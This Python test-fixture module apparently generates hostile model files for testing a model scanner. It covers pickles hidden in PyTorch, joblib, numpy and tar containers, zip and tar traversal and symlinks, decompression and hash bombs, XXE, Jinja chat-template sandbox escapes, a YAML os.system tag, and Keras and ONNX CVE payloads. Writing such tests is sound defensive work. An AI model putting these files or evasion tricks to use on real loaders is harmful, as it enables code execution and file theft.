"""Hostile model files, made when they are needed: each a way in which a loader was deceived, or a scanner was.

Were one loaded, it would create the folder `marker`. Every payload does no more than that. Sources are the public
advisories of scanners and loaders; the bytes are put together here.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from services.inventory.tests.hostile_pickles import (
    SAMPLES,
    Sample,
    ask4,
    call,
    command,
    gadget_p0,
    python,
    sample,
    system,
    text,
)

# -- archives


def archive(*members: tuple[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as made:
        for name, content in members:
            made.writestr(zipfile.ZipInfo(name), content, method)
    return out.getvalue()


def torch_archive(pickled: bytes, *more: tuple[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    return archive(
        ("archive/data.pkl", pickled), ("archive/version", b"3\n"), ("archive/data/0", b"\0" * 64), *more, method=method
    )


@sample("torch.pt", "PyTorch's archive")
def _torch(marker: str) -> bytes:
    return torch_archive(system(marker))


@sample("torch_deflated.pth", "PyTorch's archive, compressed")
def _torch_deflated(marker: str) -> bytes:
    return torch_archive(system(marker), method=zipfile.ZIP_DEFLATED)


@sample("torch_bad_crc.pt", "wrong checksums: PyTorch does not verify them, zipfile refuses")
def _bad_crc(marker: str) -> bytes:
    content = bytearray(torch_archive(system(marker)))
    central = content.index(b"PK\x01\x02")
    content[14:18] = content[central + 16 : central + 20] = b"\xde\xad\xbe\xef"
    return bytes(content)


@sample("torch_encrypted_flag.pt", "marked as encrypted, and is not")
def _encrypted(marker: str) -> bytes:
    content = bytearray(torch_archive(system(marker)))
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


@sample("torch_name_mismatch.pt", "the two headers name the member differently")
def _mismatch(marker: str) -> bytes:
    content = torch_archive(system(marker))
    central = content.index(b"PK\x01\x02")
    return content[:central] + content[central:].replace(b"archive/data.pkl", b"archive/data.txt", 1)


@sample("torch_size_mismatch.pt", "the two headers state other sizes")
def _size_mismatch(marker: str) -> bytes:
    content = bytearray(torch_archive(system(marker)))
    central = content.index(b"PK\x01\x02")
    content[central + 20 : central + 28] = struct.pack("<II", 2, 2)
    return bytes(content)


@sample("torch_duplicate.pt", "two members of one name: readers differ in which they take")
def _duplicate(marker: str) -> bytes:
    content = torch_archive(system(marker), ("archive/data.pkX", pickle.dumps({})))
    return content.replace(b"archive/data.pkX", b"archive/data.pkl")


@sample("torch_renamed.pt", "the pickle has a name that scanners pass over")
def _renamed(marker: str) -> bytes:
    return torch_archive(pickle.dumps({}), ("archive/readme.md", system(marker)))


@sample("torch_in_storage.pt", "a pickle where raw numbers belong")
def _in_storage(marker: str) -> bytes:
    return torch_archive(pickle.dumps({}), ("archive/data/1", system(marker)))


@sample("zip_behind_pickle.pt", "a pickle with an archive behind: by its end it is a harmless zip")
def _prefixed(marker: str) -> bytes:
    return system(marker) + torch_archive(pickle.dumps({}))


@sample("zip_without_directory.pt", "an archive without a directory, for lenient readers")
def _no_directory(marker: str) -> bytes:
    content = torch_archive(system(marker))
    return content[: content.index(b"PK\x01\x02")]


@sample("zip_hidden_member.pt", "a member that the directory does not list")
def _hidden(marker: str) -> bytes:
    hidden = torch_archive(system(marker))
    return hidden[: hidden.index(b"PK\x01\x02")] + torch_archive(pickle.dumps({}))


@sample("zip_traversal.zip", "a member that unpacks outside of the folder")
def _traversal(marker: str) -> bytes:
    return archive(("../../../../tmp/evil.pth", b"x"), ("a.txt", b"x"))


@sample("zip_link.zip", "a symbolic link in an archive")
def _zip_link(marker: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        link = zipfile.ZipInfo("weights.bin")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return out.getvalue()


@sample("zip_in_zip.zip", "an archive in an archive in an archive")
def _nested_zip(marker: str) -> bytes:
    return archive(
        (
            "a.dat",
            archive(
                (
                    "b.dat",
                    torch_archive(system(marker)),
                )
            ),
        )
    )


@sample("zip_lzma.pt", "a compression that few readers know")
def _zip_lzma(marker: str) -> bytes:
    return torch_archive(system(marker), method=zipfile.ZIP_LZMA)


@sample("zip_bomb.pt", "a gigabyte of zeros in a megabyte")
def _bomb(marker: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made, made.open("archive/data.pkl", "w") as member:
        member.write(b"\x80\x04")
        for _ in range(1_024):
            member.write(b"0" * (1 << 20))
    return out.getvalue()


@sample("zip_overlapping.zip", "members that share their bytes, as bombs do that are not nested")
def _overlapping(marker: str) -> bytes:
    content = archive(("a", zlib.compress(b"0" * 1_000)))
    central, end = content.index(b"PK\x01\x02"), content.index(b"PK\x05\x06")
    entry = content[central:end]
    tail = bytearray(content[end:])
    tail[8:12] = struct.pack("<HH", 50, 50)
    tail[12:16] = struct.pack("<I", len(entry) * 50)
    return content[:central] + entry * 50 + bytes(tail)


def _compressed(name: str, pack: Callable[[bytes], bytes]) -> None:
    SAMPLES.append(Sample(name, "a pickle, compressed as joblib does", lambda marker: pack(system(marker))))


def _lz4(content: bytes) -> bytes:
    import lz4.frame

    packed: bytes = lz4.frame.compress(content)
    return packed


for _name, _pack in (
    ("joblib_zlib.joblib", zlib.compress),
    ("joblib_gzip.pkl.gz", gzip.compress),
    ("joblib_bz2.joblib", bz2.compress),
    ("joblib_xz.joblib", lzma.compress),
    ("joblib_lzma.joblib", lambda content: lzma.compress(content, lzma.FORMAT_ALONE)),
    ("joblib_lz4.joblib", _lz4),
    ("gzip_second_stream.pkl", lambda content: gzip.compress(pickle.dumps({})) + gzip.compress(content)),
):
    _compressed(_name, _pack)


@sample("seven_zip.pt", "7z: no scanner reads it without unpacking")
def _seven_zip(marker: str) -> bytes:
    return (
        b"7z\xbc\xaf\x27\x1c\0\x04"
        + bytes(24)
        + lzma.compress(system(marker), lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA2}])
    )


@sample("gzip_bomb.pkl.gz", "gigabytes of zeros, compressed twice")
def _gzip_bomb(marker: str) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return (
        packer.compress(b"\x80\x04") + b"".join(packer.compress(b"0" * (1 << 20)) for _ in range(512)) + packer.flush()
    )


def tar_of(*members: tuple[str, bytes | str], kind: bytes = tarfile.SYMTYPE) -> bytes:
    """A tar; a member whose content is a text is a link there."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as made:
        for name, content in members:
            info = tarfile.TarInfo(name)
            if isinstance(content, str):
                info.type, info.linkname = kind, content
                made.addfile(info)
            else:
                info.size = len(content)
                made.addfile(info, io.BytesIO(content))
    return out.getvalue()


@sample("tar_pickle.tar", "a pickle in a tar")
def _tar(marker: str) -> bytes:
    return tar_of(("model/weights.bin", system(marker)))


@sample("tar_traversal.nemo", "a member that unpacks outside of the folder")
def _tar_traversal(marker: str) -> bytes:
    return tar_of(("../../evil.py", b"x"), ("model_config.yaml", b"a: 1\n"))


@sample("tar_link.tar", "a link out of the folder, and a file through it")
def _tar_link(marker: str) -> bytes:
    return tar_of(("cache", "/etc"), ("cache/passwd", b"x"))


@sample("tar_hard_link.tgz", "a hard link out of the folder, compressed")
def _tar_hard_link(marker: str) -> bytes:
    return gzip.compress(tar_of(("weights", "../../secret"), kind=tarfile.LNKTYPE))


@sample("hydra_target.nemo", "a configuration whose _target_ is called")
def _nemo(marker: str) -> bytes:
    return tar_of(("model_config.yaml", f"model:\n  _target_: os.system\n  command: {command(marker)}\n".encode()))


@sample("torch_tar.tar", "PyTorch's oldest form")
def _torch_tar(marker: str) -> bytes:
    return tar_of(
        ("sys_info", pickle.dumps({})),
        ("pickle", system(marker)),
        ("storages", pickle.dumps(0)),
        ("tensors", pickle.dumps(0)),
    )


MAGIC = 0x1950A86A20F9469CFC6C


def legacy(pickled: bytes, magic: bytes | None = None) -> bytes:
    return (
        (magic or pickle.dumps(MAGIC, 2))
        + pickle.dumps(1001, 2)
        + pickle.dumps({"little_endian": True}, 2)
        + pickled
        + pickle.dumps([], 2)
    )


@sample("torch_legacy.bin", "PyTorch before 1.6")
def _legacy(marker: str) -> bytes:
    return legacy(system(marker))


@sample("torch_legacy_computed_magic.bin", "the magic number is computed, so that scanners do not see it")
def _legacy_magic(marker: str) -> bytes:
    return legacy(pickle.dumps({}), call("builtins", "eval", f"{python(marker)} or {MAGIC}"))


@sample("torch_legacy_hidden.bin", "a pickle behind the last storage")
def _legacy_hidden(marker: str) -> bytes:
    return legacy(pickle.dumps({}, 2)) + system(marker)


def npy(content: bytes, kind: str = "|O") -> bytes:
    header = f"{{'descr': '{kind}', 'fortran_order': False, 'shape': (1,), }}".encode()
    header += b" " * (63 - (len(header) + 10) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + content


@sample("objects.npy", "an array of objects is a pickle")
def _npy(marker: str) -> bytes:
    return npy(system(marker))


@sample("objects.npz", "the same within an archive")
def _npz(marker: str) -> bytes:
    return archive(("weights.npy", npy(b"\0" * 8, "<f8")), ("labels.npy", npy(system(marker))))


@sample("joblib_array.joblib", "the objects of joblib's array lie behind its wrapper")
def _joblib_array(marker: str) -> bytes:
    wrapper = (
        b"\x80\x04" + ask4("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + text("subclass") + ask4("numpy", "ndarray")
        + text("shape") + b"K\x01\x85" + text("order") + text("C") + text("dtype") + ask4("numpy", "dtype") + text("O8")
        + b"\x89\x88\x87R" + text("allow_mmap") + b"\x89ub"
    )  # fmt: skip
    return wrapper + system(marker) + b"."


@sample("pickle_named.safetensors", "a pickle by the name of a format that cannot run anything")
def _as_safetensors(marker: str) -> bytes:
    return system(marker)


@sample("pickle_named.gguf", "the same")
def _as_gguf(marker: str) -> bytes:
    return gadget_p0(marker)


@sample("pickle_named.txt", "a protocol 0 pickle is a text")
def _as_text(marker: str) -> bytes:
    return gadget_p0(marker)


@sample("program.bin", "a program")
def _program(marker: str) -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(200)


@sample("script.pt", "a script")
def _script(marker: str) -> bytes:
    return f"#!/bin/sh\n{command(marker)}\n".encode()


# -- Keras and TensorFlow

LAMBDA = {
    "class_name": "Lambda",
    "config": {"name": "l", "function": ["4wEAAAAAAAAA", None, None], "function_type": "lambda"},
}


def keras_config(*layers: object) -> dict[str, object]:
    return {"class_name": "Sequential", "module": "keras", "config": {"name": "m", "layers": list(layers)}}


def keras_archive(config: object) -> bytes:
    return archive(
        ("metadata.json", json.dumps({"keras_version": "3.10.0"}).encode()),
        ("config.json", json.dumps(config).encode()),
    )


def h5_of(config: object, *, latest: bool = False, link: bool = False, raw: bool = False) -> bytes:
    import h5py

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "model.h5"
        with h5py.File(path, "w", libver="latest" if latest else "earliest") as file:
            if config is not None:
                file.attrs["model_config"] = json.dumps(config)
            weights = file.create_group("model_weights").create_group("dense")
            weights.create_dataset("kernel:0", data=[[0.0] * 8] * 8)
            if link:
                weights["bias:0"] = h5py.ExternalLink("/etc/secrets.h5", "/keys")
            if raw:
                weights.create_dataset("raw", (16,), dtype="u1", external=[("/etc/passwd", 0, 16)])
        return path.read_bytes()


@sample("lambda.h5", "a Lambda layer in HDF5")
def _h5_lambda(marker: str) -> bytes:
    return h5_of(keras_config(LAMBDA))


@sample("lambda_latest.h5", "a Lambda layer in HDF5's newer form")
def _h5_lambda_latest(marker: str) -> bytes:
    return h5_of(keras_config({"class_name": "TimeDistributed", "config": {"layer": LAMBDA}}), latest=True)


@sample("external_link.h5", "a link to another file")
def _h5_link(marker: str) -> bytes:
    return h5_of(None, link=True)


@sample("external_data.weights.h5", "a dataset whose bytes are another file's")
def _h5_raw(marker: str) -> bytes:
    return h5_of(None, raw=True)


@sample("lambda.keras", "a Lambda layer")
def _keras_lambda(marker: str) -> bytes:
    return keras_archive(keras_config(LAMBDA))


@sample("module.keras", "loading imports any module (CVE-2025-1550)")
def _keras_module(marker: str) -> bytes:
    entry = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
    return keras_archive(
        keras_config({"class_name": "Dense", "module": "keras.layers", "config": {"activation": entry}})
    )


@sample("get_file.keras", "Keras' own functions misused (CVE-2025-8747)")
def _keras_get_file(marker: str) -> bytes:
    entry = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"}
    return keras_archive(keras_config(entry))


@sample("unsafe_switch.keras", "the file switches safe mode off (CVE-2025-9906)")
def _keras_switch(marker: str) -> bytes:
    return keras_archive(
        {
            "module": "keras.config",
            "class_name": "function",
            "config": "enable_unsafe_deserialization",
            "registered_name": "f",
        }
    )


@sample("torch_wrapper.keras", "a layer that loads a pickle (CVE-2025-49655)")
def _keras_wrapper(marker: str) -> bytes:
    return keras_archive(
        keras_config({"class_name": "TorchModuleWrapper", "module": "keras.layers", "config": {"module": "gASV"}})
    )


@sample("vocabulary.keras", "a vocabulary that is a path or an address (CVE-2025-12058)")
def _keras_vocabulary(marker: str) -> bytes:
    return keras_archive(
        keras_config({"class_name": "StringLookup", "module": "keras.layers", "config": {"vocabulary": "/etc/passwd"}})
    )


def field(number: int, content: bytes | int) -> bytes:
    """One field of a protocol buffer."""

    def varint(value: int) -> bytes:
        out = bytearray()
        while value > 0x7F:
            out.append(value & 0x7F | 0x80)
            value >>= 7
        return bytes([*out, value])

    if isinstance(content, int):
        return varint(number << 3) + varint(content)
    return varint(number << 3 | 2) + varint(len(content)) + content


def saved_model(*operators: str, in_function: bool = False) -> bytes:
    nodes = [field(1, f"n{at}".encode()) + field(2, one.encode()) for at, one in enumerate(operators)]
    if in_function:
        graph = field(2, field(1, field(1, field(1, b"f")) + b"".join(field(3, one) for one in nodes)))
    else:
        graph = b"".join(field(1, one) for one in nodes)
    return field(1, 1) + field(2, field(1, field(4, b"serve")) + field(2, graph))


@sample("saved_model.pb", "an operator that reads files")
def _read_file(marker: str) -> bytes:
    return saved_model("Placeholder", "ReadFile", "Identity")


@sample("functions/saved_model.pb", "an operator that writes files, in a function")
def _write_file(marker: str) -> bytes:
    return saved_model("Placeholder", "WriteFile", in_function=True)


@sample("python/saved_model.pb", "an operator that calls Python")
def _py_func(marker: str) -> bytes:
    return saved_model("EagerPyFunc")


@sample("keras_metadata.pb", "a Lambda layer beside a SavedModel")
def _keras_metadata(marker: str) -> bytes:
    return field(
        1,
        field(1, 1) + field(2, b"root.layer-1") + field(3, b"_tf_keras_layer") + field(4, json.dumps(LAMBDA).encode()),
    )


# -- other formats


def onnx(location: str | None = None, domain: str = "", operator: str = "MatMul") -> bytes:
    tensor = field(1, 4) + field(2, 1) + field(8, b"w")
    if location is None:
        tensor += field(9, b"\0" * 16)
    else:
        tensor += field(13, field(1, b"location") + field(2, location.encode())) + field(14, 1)
    node = (
        field(1, b"x") + field(2, b"y") + field(4, operator.encode()) + (field(7, domain.encode()) if domain else b"")
    )
    graph = field(1, node) + field(2, b"g") + field(5, tensor)
    return field(1, 8) + field(2, b"pytorch") + field(7, graph) + field(8, field(1, domain.encode()) + field(2, 17))


@sample("external.onnx", "weights from outside of the folder (CVE-2024-27318)")
def _onnx_external(marker: str) -> bytes:
    return onnx("../../../../etc/passwd")


@sample("operators.onnx", "operators that a library of their own runs")
def _onnx_domain(marker: str) -> bytes:
    return onnx(domain="com.evil.ops", operator="Run")


@sample("python.onnx", "an operator that calls Python")
def _onnx_python(marker: str) -> bytes:
    return onnx(domain="ai.onnx.contrib", operator="PyOp")


def gguf_text(value: str) -> bytes:
    raw = value.encode()
    return struct.pack("<Q", len(raw)) + raw


def gguf(**keys: str) -> bytes:
    head = b"GGUF" + struct.pack("<IQQ", 3, 1, len(keys))
    for key, value in keys.items():
        head += gguf_text(key.replace("__", ".")) + struct.pack("<I", 8) + gguf_text(value)
    head += gguf_text("token_embd.weight") + struct.pack("<IQIQ", 1, 8, 0, 0)
    return head + bytes(-len(head) % 32) + bytes(32)


@sample("template.gguf", "a chat template that leaves the sandbox (CVE-2024-34359)")
def _gguf_template(marker: str) -> bytes:
    return gguf(
        general__architecture="llama",
        tokenizer__chat_template="{% for x in ().__class__.__base__.__subclasses__() %}{{ x.__init__ }}{% endfor %}",
    )


@sample("template_hidden.gguf", "the same with names that are put together")
def _gguf_template_hidden(marker: str) -> bytes:
    return gguf(
        tokenizer__chat_template__tool_use="{{ (messages|attr('_' ~ '_class_' ~ '_'))|attr('\\x5f\\x5fmro\\x5f\\x5f') }}"
    )


@sample("lengths.gguf", "lengths that overflow a parser")
def _gguf_lengths(marker: str) -> bytes:
    return b"GGUF" + struct.pack("<IQQ", 3, 1, 1) + struct.pack("<Q", (1 << 64) - 8) + b"x" * 64


@sample("counts.gguf", "more tensors than memory")
def _gguf_counts(marker: str) -> bytes:
    return b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 1 << 60) + b"\0" * 64


@sample("zip_behind.gguf", "an archive behind a model")
def _gguf_zip(marker: str) -> bytes:
    return gguf(general__architecture="llama") + torch_archive(system(marker))


def safetensors(header: object, data: bytes = b"", size: int | None = None) -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw) if size is None else size) + raw + data


@sample("overlapping.safetensors", "tensors that overlap")
def _overlap(marker: str) -> bytes:
    entry = {"dtype": "U8", "shape": [8], "data_offsets": [0, 8]}
    return safetensors({"a": entry, "b": entry}, bytes(8))


@sample("outside.safetensors", "a tensor outside of the file")
def _outside(marker: str) -> bytes:
    return safetensors({"a": {"dtype": "U8", "shape": [1 << 40], "data_offsets": [0, 1 << 40]}}, bytes(8))


@sample("doubled.safetensors", "a name that stands twice: parsers differ in which they take")
def _doubled(marker: str) -> bytes:
    entry = '{"dtype":"U8","shape":[8],"data_offsets":[0,8]}'
    return safetensors(f'{{"a":{entry},"a":{entry}}}'.encode(), bytes(8))


@sample("hidden.safetensors", "a pickle between the tensors and behind them")
def _hidden_data(marker: str) -> bytes:
    return safetensors({"a": {"dtype": "U8", "shape": [8], "data_offsets": [0, 8]}}, bytes(8) + system(marker))


@sample("header_bomb.safetensors", "a header of exabytes")
def _header_bomb(marker: str) -> bytes:
    return safetensors(b"{}", size=1 << 62)


@sample("external_entity.pmml", "an entity that is read from a file")
def _xxe(marker: str) -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4">&x;</PMML>'


@sample("laughs.pmml", "entities of entities")
def _laughs(marker: str) -> bytes:
    rows = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 12))
    return f'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY l0 "ha">{rows}]><PMML version="4.4">&l11;</PMML>'.encode()


@sample("torchscript.pt", "compiled code that writes files (CVE-2025-32434)")
def _torchscript(marker: str) -> bytes:
    code = b'class M(Module):\n  def forward(self, x):\n    _0 = ops.aten.save(x, "/tmp/x")\n    return x\n'
    return archive(
        ("m/data.pkl", pickle.dumps({})), ("m/code/__torch__.py", code), ("m/constants.pkl", pickle.dumps(()))
    )


@sample("operator.skops", "a loader that calls what the file names (CVE-2025-54412)")
def _skops(marker: str) -> bytes:
    schema = {
        "__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode",
        "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": []},
        "protocol": 2, "_skops_version": "0.11",
    }  # fmt: skip
    return archive(("schema.json", json.dumps(schema).encode()))


@sample("config.json", "a configuration that has code beside it loaded")
def _auto_map(marker: str) -> bytes:
    return json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_evil.Evil"}}).encode()


@sample("tokenizer_config.json", "a chat template that leaves the sandbox")
def _tokenizer(marker: str) -> bytes:
    return json.dumps({"chat_template": "{{ cycler.__init__.__globals__.os.system('x') }}"}).encode()


@sample("modeling_evil.py", "the code beside it")
def _code(marker: str) -> bytes:
    return f"import os\nos.system({command(marker)!r})\n".encode()


@sample("settings.yaml", "a tag that calls what it names")
def _yaml(marker: str) -> bytes:
    return f"x: !!python/object/apply:os.system ['{command(marker)}']\n".encode()


@sample("custom_layer.mlmodel", "a Core ML layer that the application's code runs")
def _coreml(marker: str) -> bytes:
    return (
        field(1, 4)
        + field(2, field(100, b"x"))
        + field(500, field(1, field(1, b"layer") + field(500, field(10, b"Evil"))))
    )


@sample("model.llamafile", "a program with a model inside")
def _llamafile(marker: str) -> bytes:
    return b"MZqFpD='\n" + bytes(200) + archive(("model.gguf", gguf(general__architecture="llama")))


# -- bombs


@sample("hash_bomb.pkl", "a key of tuples of tuples: hashing it takes two to the sixtieth steps")
def _hash_bomb(marker: str) -> bytes:
    return b"\x80\x04}" + b"K\x01" + b"2\x86" * 60 + b"K\x01s."


@sample("allocation.pkl", "a harmless type that is asked for a terabyte")
def _allocation(marker: str) -> bytes:
    return call("builtins", "bytearray", b"\x8a\x06" + (1 << 40).to_bytes(6, "little"))


@sample("long_length.pkl", "a length of exabytes")
def _long_length(marker: str) -> bytes:
    return b"\x80\x04\x8e" + struct.pack("<Q", 1 << 62) + b"x" * 100


@sample("memo_bomb.pkl", "millions of memo entries")
def _memo_bomb(marker: str) -> bytes:
    return (
        b"\x80\x04N"
        + b"".join(b"r" + struct.pack("<I", at * 7) for at in range(1_200_000))
        + ask4("os", "system")
        + b"."
    )


@sample("stack_bomb.pkl", "millions of values and no end")
def _stack_bomb(marker: str) -> bytes:
    return b"\x80\x04" + b"(" * 3_000_000


HOSTILE: tuple[Sample, ...] = tuple(SAMPLES)
